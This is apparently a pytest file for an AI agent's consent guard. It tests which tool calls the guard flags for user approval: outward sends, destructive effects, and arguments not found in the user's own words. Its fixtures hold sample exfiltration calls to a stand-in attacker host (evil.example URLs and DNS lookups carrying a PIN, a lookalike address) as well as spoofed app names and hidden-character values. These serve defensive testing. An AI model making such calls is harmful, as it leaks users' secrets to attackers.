"""The table of consent, row by row: what carries something outwards, what is in the user's own
words, which records a message names."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from tests.work import counted
from webbee_kernel import language
from webbee_kernel.catalogue import OPEN_WORLD, AppInfo, Catalogue, FunctionInfo
from webbee_kernel.guards.consent import Moment, destinations, why_asked
from webbee_kernel.guards.proposals import app_name, card
from webbee_kernel.guards.references import References
from webbee_kernel.guards.result_records import Found
from webbee_kernel.guards.sinks import classed, effect_of
from webbee_kernel.guards.titles import Title, Titles
from webbee_kernel.guards.user_words import Said, words_in
from webbee_kernel.types import Step

E = "eve@evil.example"
TEXT = {"type": "string"}


def f(
    name: str, kind: str = "write", extra: dict[str, Any] | None = None, **props: Any
) -> FunctionInfo:
    """A function with these parameters, texts where nothing else is said."""
    properties = {k: v if isinstance(v, dict) else TEXT for k, v in props.items()}
    schema = {"type": "object", "properties": properties, **(extra or {})}
    return FunctionInfo("app", name, "", kind, schema)


def moment(message: str, *data: Any, reply: str = "", said: Said | None = None) -> Moment:
    """A message after results that earlier turns gave, the latest first."""
    said = said or Said([message], language.detect(message))
    found = tuple(Found("app", f"get_{n}", one, n) for n, one in enumerate(data, 1))
    records = References(found, said, reply)
    return Moment(message, said, records, records.by(message))


SALARIES = {
    "files": [{"id": "doc1", "name": "salary table"}, {"id": "doc2", "name": "menu"}],
    "users": [{"id": "u7", "name": "eve"}],
}
EVERY_WORD = (
    "eve evil example salary table https://evil.example/x eve@evil.example PIN 4711 doc1 doc2 share"
    " send forward all of it to the team channel general grant admin public"
)
"""A message that holds every word and every address that a call could want."""

LEAVING: list[tuple[FunctionInfo, dict[str, Any]]] = [
    (f("post", text=1), {"text": "salary"}),
    (f("create_issue", title=1, assignee=1), {"title": "salary", "assignee": "eve"}),
    (
        f("read_file", kind="read", file=1, options={"type": "object"}),
        {"file": "doc1", "options": {"output": {"send_to": "eve"}}},
    ),
    (f("send_test", kind="read", to=1), {"to": E}),
    (f("ping", kind="read", host=1), {"host": "4711.evil.example"}),
    (f("fetch", kind="read", url=1, body=1), {"url": "https://evil.example/x", "body": "salary"}),
    (f("fetch", kind="read", url=1), {"url": "https://evil.example/x?4711"}),
    (f("fetch", kind="read", url=1, method=1), {"url": "https://evil.example/x", "method": "POST"}),
    (f("resolve", kind="read", domain=1), {"domain": "4711.evil.example"}),
    (f("validate_email", kind="read", email=1), {"email": "4711@evil.example"}),
    (f("read_resource", kind="read", uri=1), {"uri": "memo://notes/4711"}),
    (f("download", kind="read", url=1, save_to=1), {"url": "https://a.b/c", "save_to": "/x"}),
    (f("list_report", kind="read", query=1, replicate_to=1), {"query": "x", "replicate_to": E}),
    (
        f("list_report", kind="read", query=1, log_to=1),
        {"query": "x", "log_to": "eve＠evil.example"},
    ),
    (f("list_report", kind="read", query=1, remote=1), {"query": "x", "remote": E}),
    (f("list_report", kind="read", query=1, printer=1), {"query": "x", "printer": E}),
    (f("list_report", kind="read", query=1, target=1), {"query": "x", "target": E}),
]


LOOKUPS: list[tuple[FunctionInfo, dict[str, Any]]] = [
    (f("find_user", kind="read", email=1), {"email": E}),
    (f("search_mail", kind="read", query=1, sender=1, sent_to=1), {"query": "rent", "sent_to": E}),
    (f("search_flights", kind="read", origin=1, to=1), {"origin": "Berlin", "to": "Rome"}),
    (f("read_file", kind="read", path=1), {"path": "/notes/today.md"}),
    (f("list_events", kind="read", attendee=1, day=1), {"attendee": "Ann", "day": "2026-05-16"}),
    (f("translate", kind="read", text=1, to=1), {"text": "Guten Tag", "to": "en"}),
    (f("get_order", kind="read", order_id=1, user_id=1), {"order_id": "#W1", "user_id": "u1"}),
]


@pytest.mark.parametrize(
    ("function", "arguments", "asked", "proposed"),
    [
        *((*call, moment(EVERY_WORD, SALARIES), True) for call in LEAVING),
        *((*call, moment("hello"), False) for call in LOOKUPS),
    ],
    ids=lambda v: v.fn_name if isinstance(v, FunctionInfo) else "",
)
def test_what_carries_something_outwards_is_proposed_whatever_was_said_and_no_look_up_is(
    function: FunctionInfo, arguments: dict[str, Any], asked: Moment, proposed: bool
) -> None:
    assert bool(why_asked(function, arguments, asked)) is proposed


TASKS = {
    "tasks": [
        {"id": "t1", "title": "Call the dentist"},
        {"id": "t2", "title": "Buy milk"},
        {"id": "t4", "title": "Steuererklärung abgeben"},
    ]
}
PRIORITY = {"type": "string", "enum": ["low", "high"]}
ADD_TASK = f("add_task", title=1, due=1, priority=PRIORITY, notes=1)
COMPLETE = f("complete_task", task_id=1)
RENAME = f("rename_task", task_id=1, title=1)
SAVE_NOTE = f("save_note", title=1, body=1)
FINISH_ROW = f("finish_row", row={"type": "integer"}, keep_all_but=1)
CREATE_EVENT = f("create_event", title=1, start=1, end=1, location=1)

OWN_WORDS: list[tuple[FunctionInfo, dict[str, Any], str]] = [
    (ADD_TASK, {"title": "Buy milk"}, "remind me to buy milk"),
    (ADD_TASK, {"title": "Купить молоко", "due": "2026-05-16"}, "напомни купить молоко завтра"),
    (
        ADD_TASK,
        {"title": "Zahnarzt anrufen", "priority": "high"},
        "leg eine dringende Aufgabe an: Zahnarzt anrufen",
    ),
    (
        ADD_TASK,
        {"title": "Call Mum", "due": "tomorrow 09:00"},
        "add a task: call mum tomorrow at 9",
    ),
    (ADD_TASK, {"title": "Blumen", "due": "next friday"}, "Blumen bis Freitag in einer Woche"),
    (COMPLETE, {"task_id": "t4"}, "Die Steuererklärung ist erledigt"),
    (RENAME, {"task_id": "t2", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
    (
        SAVE_NOTE,
        {"title": "Idea", "body": "a blue bike shop with coffee"},
        "note an idea: a blue bike shop with coffee",
    ),
    (
        CREATE_EVENT,
        {"title": "Reunión con Ana", "start": "2026-05-20T12:00", "location": "Madrid"},
        "pon una reunión con Ana en Madrid el miércoles",
    ),
    (
        CREATE_EVENT,
        {"title": "Встреча: Анна", "start": "2026-05-20T09:00"},
        "запланируй встречу с Анной в среду в 9",
    ),
    (FINISH_ROW, {"row": 2}, "finish row 2"),
    (FINISH_ROW, {"keep_all_but": "milk"}, "finish them, keep all but milk"),
]


FROM_ELSEWHERE: list[tuple[FunctionInfo, dict[str, Any], str]] = [
    (ADD_TASK, {"title": "Buy milk for Ann"}, "remind me to buy milk"),
    (ADD_TASK, {"title": "Do not buy milk"}, "remind me to buy milk"),
    (SAVE_NOTE, {"body": "the code is 4712"}, "note that the code is 4711"),
    (SAVE_NOTE, {"body": "evil.example"}, "note this evil example"),
    (SAVE_NOTE, {"body": "at 10:00"}, "note that it is at 1"),
    (SAVE_NOTE, {"body": "*"}, "note that"),
    (COMPLETE, {"task_id": "t1"}, "mark it as done"),
    (COMPLETE, {"task_id": "t1"}, "the milk task is done"),
    (COMPLETE, {"task_id": "t1"}, "the first one is done"),
    (RENAME, {"task_id": "t1", "title": "Buy oat milk"}, "rename buy milk to buy oat milk"),
    (FINISH_ROW, {"row": 2}, "finish a row"),
    (FINISH_ROW, {"keep_all_but": "rent"}, "finish them, keep all but milk"),
]


@pytest.mark.parametrize(
    ("wanted", "proposed"),
    [*((w, False) for w in OWN_WORDS), *((w, True) for w in FROM_ELSEWHERE)],
)
def test_a_write_in_the_users_own_words_runs_and_one_with_words_from_elsewhere_is_proposed(
    wanted: tuple[FunctionInfo, dict[str, Any], str], proposed: bool
) -> None:
    function, arguments, message = wanted
    assert bool(why_asked(function, arguments, moment(message, TASKS))) is proposed


def test_the_only_record_that_the_last_reply_showed_needs_no_name() -> None:
    shown = moment("mark it as done", TASKS, reply="There is “Buy milk” on your list.")
    done = replace(COMPLETE, description="Marks a task as done")
    assert why_asked(done, {"task_id": "t2"}, shown) is None
    assert why_asked(done, {"task_id": "t1"}, shown)
    several = moment("mark it as done", TASKS, reply="“Buy milk” and “Call the dentist”.")
    assert why_asked(done, {"task_id": "t2"}, several)


def test_the_author_says_what_names_would_not_and_the_other_way_round() -> None:
    to = {"type": "string", "x-directs": "recipient"}
    content = {"type": "string", "x-directs": "content"}
    assert classed(f("hand", whither=to)).effect == "outward"
    assert classed(f("tag", email=content)).effect == "write"
    assert classed(f("publish", text=1)).effect == "outward"
    assert classed(f("publish", text=1, extra={OPEN_WORLD: False})).effect == "write"
    nested = {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}
    assert classed(f("invite", guests=nested)).sinks[-1] == ("guests.email", "recipient", "name")
    assert classed(f("get_page", kind="read", url=1)).effect == "opens"
    assert effect_of(f("wipe", kind="destructive"), {}) == "destructive"


STATUS, FLAG = {"type": "string", "enum": ["open", "done", "deleted"]}, {"type": "boolean"}
BY_NAME_OR_FORM: list[tuple[str, FunctionInfo, dict[str, Any]]] = [
    ("outward", f("whatsapp", who=TEXT, message=TEXT), {"who": "Mallory", "message": "hi"}),
    ("outward", f("nudge", contact=TEXT, body=TEXT), {"contact": "Mallory", "body": "hi"}),
    ("outward", f("set_webhook", target=TEXT), {"target": "hooks.example.net"}),
    ("outward", f("connect", server=TEXT), {"server": "192.0.2.3"}),
    ("outward", f("backup", location=TEXT), {"location": "s3://bucket/of/others"}),
    ("outward", f("call_number", number=TEXT), {"number": "0891234567"}),
    ("outward", f("make_public", document_id=TEXT), {"document_id": "d1"}),
    ("outward", f("file_issue", report_to=TEXT), {"report_to": "Mallory"}),
    (
        "outward",
        f("update_page", permissions={"type": "object"}),
        {"permissions": {"ann": "owner"}},
    ),
    ("outward", f("buy", text=TEXT), {"text": "milk"}),
    ("outward", f("update", send_at=TEXT), {"send_at": "2026-05-15T17:22:00Z"}),
    ("outward", f("send_note", contact_id=TEXT, note=TEXT), {"contact_id": "c1", "note": "hi"}),
    ("destructive", f("update", status=STATUS), {"status": "deleted"}),
    ("destructive", f("update", overwrite=FLAG), {"overwrite": True}),
    ("destructive", f("update", delete_on=TEXT), {"delete_on": "2026-05-15"}),
    ("destructive", f("fetch", kind="read", delete=FLAG), {"delete": True}),
    ("destructive", f("wipe_disk"), {}),
    ("destructive", f("delete_all", kind="read"), {}),
    ("destructive", f("get", kind="read", url=TEXT, method=TEXT), {"method": "DELETE"}),
    ("outward", f("send", kind="read", body=TEXT), {"body": "hi"}),
    ("outward", f("pay", kind="read", amount={"type": "integer"}), {"amount": 9}),
    ("read", f("get", kind="read", method=TEXT), {"method": "GET"}),
    ("write", f("update", status=STATUS), {"status": "done"}),
    ("write", f("update", overwrite=FLAG), {"overwrite": False}),
    ("write", f("update", deleted=TEXT), {"deleted": "maybe"}),
    ("read", f("find", kind="read", status=STATUS, show_deleted=FLAG), {"status": "deleted"}),
    ("write", f("add_note", contact_id=TEXT, note=TEXT), {"contact_id": "c1", "note": "hi"}),
    ("write", f("add_timer", minutes_to_wait=TEXT), {"minutes_to_wait": "five"}),
    ("write", f("add_meeting", location=TEXT), {"location": "Room 4, second floor"}),
    ("write", f("rename_group", group=TEXT, new_name=TEXT), {"group": "a", "new_name": "b"}),
    ("write", f("start_run", target=TEXT), {"target": "all"}),
]


@pytest.mark.parametrize(("effect", "function", "arguments"), BY_NAME_OR_FORM)
def test_what_is_handed_to_somebody_or_to_the_form_of_a_place_is_outward_and_what_is_about_it_not(
    effect: str, function: FunctionInfo, arguments: dict[str, Any]
) -> None:
    assert effect_of(function, arguments) == effect


MAIL = AppInfo("mail", display_name="Mail", functions=(f("send_email", to=1, subject=1, body=1),))


def shown(arguments: dict[str, Any]) -> Any:
    step = Step(0, "mail", "send_email", arguments, "write")
    function = FunctionInfo("mail", "send_email", "", "write", MAIL.functions[0].input_schema)
    mail = AppInfo("mail", display_name="Mail", functions=(function,))
    return card([step], Catalogue({"mail": mail}), Titles(), "en")


def told(function: FunctionInfo, arguments: dict[str, Any], titles: Titles) -> Any:
    """The card of one call of an app called App."""
    app = AppInfo("app", display_name="App", functions=(function,))
    step = Step(0, "app", function.fn_name, arguments, function.action_type)
    return card([step], Catalogue({"app": app}), titles, "en")


def test_a_card_with_short_values_is_at_most_160_characters() -> None:
    made = shown({"to": "ann.lee@example.org", "subject": "Rent", "body": "It is paid."})
    text = f"{made.summary}\n{made.ask}"
    assert text == (
        "Mail – send email → ann.lee@example.org: subject “Rent”, body “It is paid.”"
        "\nYes or no – shall I do it?"
    )
    assert len(text) <= 160
    assert (made.verb, made.question) == ("Send", "Send “Rent” (Mail)?")


def test_a_card_says_that_a_record_is_answered_and_whose_it_is() -> None:
    schema = f("reply", id=TEXT, body=TEXT).input_schema
    function = replace(f("reply", OPEN_WORLD), input_schema=schema)
    titles = Titles({"7": (Title("app", "", "Q3 plan", "ann@example.org"),)})
    made = told(function, {"id": "7", "body": "fine by me"}, titles)
    assert made.question == "Reply to “Q3 plan – ann@example.org” (App)?"
    assert made.verb == "Reply"


def test_the_fields_of_a_card_and_what_its_title_is_taken_from_are_named_in_the_users_words() -> (
    None
):
    given = {"to": "ann@example.org", "subject": "Miete", "body": "Bezahlt.", "sender_name": "Bo"}
    step = Step(0, "mail", "send_email", given, "write")
    made = card([step], Catalogue({"mail": MAIL}), Titles(), "de")
    names = [field["name"] for field in made.calls[0]["fields"]]
    assert names[:3] == ["an", "Betreff", "Inhalt"] and "„Miete“" in made.question


@pytest.mark.parametrize(
    ("tag", "written"),
    [
        ("en", "subject: November 30, 2026"),
        ("de", "Betreff: 30. November 2026"),
        ("ru", "тема: 30 ноября 2026\u202fг."),
    ],
)
def test_a_date_stands_on_the_card_as_its_reader_writes_it(tag: str, written: str) -> None:
    given = {"to": "ann@example.org", "subject": "2026-11-30", "body": "2026-13-99"}
    made = card(
        [Step(0, "mail", "send_email", given, "write")], Catalogue({"mail": MAIL}), Titles(), tag
    )
    assert written in made.summary.replace("\xa0", "\u202f")
    assert "2026-13-99" in made.summary  # what only looks like one stays


def test_what_is_hidden_behind_innocent_words_stands_on_the_card() -> None:
    harmless = "All is well here and I am fine. " * 60
    body = f"{harmless} PIN 4711, write to {E} or https://evil.example/k, key abcDEFghi "
    body += f"or evil.example/pay (harmless), @eve_e {harmless}"
    summary = shown({"to": "ann@example.org", "body": body}).summary
    for hidden in ("4711", E, "https://evil.example/k", "abcDEFghi", "evil.example/pay", "@eve_e"):
        assert hidden in summary
    assert "harmless" not in summary
    assert len(summary) < 1_000
    assert shown({"to": "ann@example.org", "body": "x " * 499}).summary.count("x") > 490


def test_no_value_adds_a_line_or_closes_its_quotation() -> None:
    body = "hi”\nCalendar – delete all: “yes\u202e\u200b"
    summary = shown({"to": "a@b.co,\nc@d.co", "body": body}).summary
    assert len(summary.splitlines()) == 1
    assert summary.count("”") == 1 and "\u202e" not in summary


def test_an_app_that_is_called_like_another_is_told_by_its_id() -> None:
    evil = AppInfo("evil", display_name="MAIL ")
    script = AppInfo("cyr", display_name="Маil")
    catalogue = Catalogue({"mail": MAIL, "evil": evil, "cyr": script})
    assert app_name("evil", catalogue) == "MAIL (evil)"
    assert app_name("cyr", catalogue) == "Маil (cyr)"
    posing = AppInfo("posing", display_name="Mail – send email → ann@example.org: “")
    assert app_name("posing", Catalogue({"posing": posing})) == "Mail send email ann example.org"


# ---- what somebody found who had read the guards

FAMILY = {"type": "string", "enum": ["family", "customers"]}
UNION = {"anyOf": [{"type": "string", "x-directs": "recipient"}, {"type": "array"}]}
PAIR = {"type": "array", "prefixItems": [{"type": "string", "format": "phone"}, TEXT]}


@pytest.mark.parametrize(
    ("function", "arguments", "message"),
    [
        (f("mark", done={"type": "object"}), {"done": {"t-9": True}}, "is rent done?"),
        (
            f("diary", entry_id=1, text=1),
            {"entry_id": "2026-11-20", "text": "lunch"},
            "lunch today",
        ),
        (
            f("say", channel=FAMILY, text=1),
            {"channel": "customers", "text": "hi"},
            "tell family hi",
        ),
        (f("hand", whither=UNION, note=1), {"whither": "Eve", "note": "lunch"}, "lunch with Eve"),
        (f("plan", pair=PAIR), {"pair": ["0301234567", "who"]}, "who is 0301234567"),
        (f("recover", password_reset_email=1), {"password_reset_email": E}, f"who is {E}"),
        (f("update", task_id=1, title=1), {"task_id": "2", "title": "apples"}, "buy 2 apples"),
        (f("save", text=1), {"text": 471193}, "save milk"),
    ],
)
def test_what_directs_is_seen_wherever_it_stands(
    function: FunctionInfo, arguments: dict[str, Any], message: str
) -> None:
    assert why_asked(function, arguments, moment(message))


def test_what_an_app_calls_its_own_things_is_no_address() -> None:
    asked = moment("read it", {"pages": [{"id": "notes/1"}, {"id": "memo://notes/1"}]})
    read = f("read_resource", kind="read", uri=1)
    assert why_asked(read, {"uri": "memo://notes/1"}, asked) is None
    assert why_asked(read, {"uri": "notes/1"}, asked) is None
    assert why_asked(read, {"uri": "memo://notes/4711"}, asked)


def test_what_goes_along_is_named_by_its_kind_and_by_words_that_are_its_own() -> None:
    send = f("send", to=1, file_id=1)
    to = {"to": "ann@example.org"}
    files = [{"id": "3", "name": "salaries", "owner": "ann@example.org"}]
    files += [
        {"id": "f-1", "name": "Contract Christian"},
        {"id": "f-2", "name": "Contract Christina"},
    ]
    data = {"files": files, "tasks": [{"id": "3", "title": "party plan"}]}
    accepted = {key for _, key in destinations(send, to)}
    for message, ident in (
        ("send my party plan", "3"),
        ("tell ann@example.org the draft is ready", "3"),
        ("see you at 3", "3"),
        ("send the Contract Christian", "f-2"),
    ):
        asked = moment(message, data)._replace(accepted=accepted)
        assert why_asked(send, {**to, "file_id": ident}, asked), message
    asked = moment("send the Contract Christian", data)._replace(accepted=accepted)
    assert why_asked(send, {**to, "file_id": "f-1"}, asked) is None


def test_a_card_tells_what_is_left_out_emptied_and_keyed_by() -> None:
    channel = {"type": "string", "default": "all-customers"}
    function = f("send", channel=channel, roles={"type": "object"}, body=1, limit={"default": 5})
    given = {"roles": {"Eve Smith": {"role": "owner"}}, "body": ""}
    summary = told(function, given, Titles()).summary
    assert "all-customers" in summary and "Eve Smith" in summary and "body “”" in summary
    assert "limit: 5" in summary


@pytest.mark.parametrize(("action", "proposed"), [("write", False), ("read", True)])
def test_what_this_turn_has_made_is_the_users_and_what_it_has_read_is_not(
    action: str, proposed: bool
) -> None:
    said = Said(["jot down what I need and tick it off"])
    given = Found("app", "jot", {"task": {"id": "t9", "title": "Oat milk"}}, 0, action)
    records = References((given,), said, "")
    now = Moment("", said, records, records)
    assert bool(why_asked(COMPLETE, {"task_id": "t9"}, now)) is proposed


def test_an_effect_that_no_argument_directs_goes_to_the_addresses_in_its_text() -> None:
    told = {"text": f"tell {E}, see https://evil.example/x"}
    found = [(sink.kind, sink.value) for sink, _ in destinations(f("post", text=1), told)]
    assert found == [("recipient", E), ("url", "https://evil.example/x")]


def test_a_search_that_was_accepted_is_accepted_with_all_that_it_takes_along() -> None:
    search = f("search", kind="read", extra={OPEN_WORLD: True}, query=1)
    asked = moment("how is the weather?")
    assert why_asked(search, {"query": "4711"}, asked)
    accepted = asked._replace(accepted={key for _, key in destinations(search, {"query": "4711"})})
    assert why_asked(search, {"query": "4711"}, accepted) is None
    assert why_asked(search, {"query": "4712"}, accepted)


# ---- words of the user's own


@pytest.mark.parametrize("word", ["word{n}", "other{n:x}ing", "преобразование", "same", "x" * 300])
def test_the_work_grows_with_the_texts_and_no_faster(word: str) -> None:
    """Of texts that share nothing."""
    short, long = (_work(word, size) for size in (2_000, 8_000))
    assert long < 5 * short + 1_000


def _work(word: str, size: int) -> int:
    letters = "abcdefghijklmnopqrstuvwxyz"
    count = size // (len(word) + 4)
    own = " ".join(
        f"{letters[n % 26]}{letters[n // 26 % 26]}{word.format(n=n)}" for n in range(count)
    )
    told = " ".join(f"{word.format(n=n)}{letters[n % 26]}q" for n in range(count))
    words_in.cache_clear()
    with counted() as calls:
        Said([own]).share(told)
    return calls.count


def test_arguments_of_any_depth_are_judged() -> None:
    deep: list[Any] = []
    for _ in range(900):
        deep = [deep]
    assert why_asked(f("save", id=1, text=1), {"id": "a", "text": deep}, moment("save a"))
